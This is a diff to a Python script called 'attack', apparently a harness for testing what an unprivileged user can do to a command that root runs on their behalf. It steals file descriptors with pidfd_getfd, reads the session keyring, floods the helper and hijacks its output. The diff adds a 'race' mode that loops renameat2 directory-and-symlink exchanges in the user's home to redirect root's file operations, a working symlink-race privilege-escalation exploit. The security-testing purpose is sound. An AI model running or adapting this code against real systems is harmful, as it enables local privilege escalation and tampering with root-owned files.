@@ -1,7 +1,7 @@
 #!/usr/bin/python3 -IS
 """attack WHAT: what a user may try with the call that root made.
 
-It runs somewhere below that call, as the same user.
+It runs somewhere below that call, as the same user; race runs beside it.
 
     look        what the call has: a line for each of its descriptors, those
                 that pidfd_getfd(2) gives, /dev/tty, the session keyring's
@@ -11,6 +11,8 @@ It runs somewhere below that call, as the same user.
     keep        take the call's output and go on writing there
     ask         root for root_setup_cmd, ten times, and print what it answers
     flood       it with requests, hold the channel and read no answer
+    race TO     exchange directories at home and links to TO, again and again,
+                until there is a file `enough`, then how often
 """
 
 import ctypes
@@ -23,6 +25,7 @@ import time
 
 PIDFD_OPEN, PIDFD_GETFD, KEYCTL, IOPRIO_GET = 434, 438, 250, 252
 SEARCH, READ, SESSION = 10, 11, -3
+HERE, EXCHANGE = -100, 2
 
 libc = ctypes.CDLL(None, use_errno=True)
 
@@ -107,6 +110,24 @@ def flood(pid):
             return
 
 
+def race(to):
+    names = [b".local/state", b".local/state/celery-tmux",
+             b".local/state/celery-tmux/" + os.uname().nodename.encode(),
+             b".config", b"code"]
+    links = [b"link%d" % number for number in range(len(names))]
+    for name, link in zip(names, links):
+        os.makedirs(name, exist_ok=True)
+        os.symlink(to, link)
+    rounds = 0
+    while not os.path.exists("enough"):
+        for name, link in zip(names, links):
+            for _ in range(2):
+                libc.renameat2(HERE, link, HERE, name, EXCHANGE)
+                time.sleep(0.0005)
+        rounds += 1
+    print(rounds)
+
+
 def call():
     pid = os.getppid()
     while True:
@@ -118,7 +139,9 @@ def call():
 
 
 what = sys.argv[1]
-if what == "print":
+if what == "race":
+    race(sys.argv[2])
+elif what == "print":
     os.write(take(call(), 1), sys.argv[2].encode())
 else:
     {"look": look, "stop": stop, "keep": keep, "ask": ask,
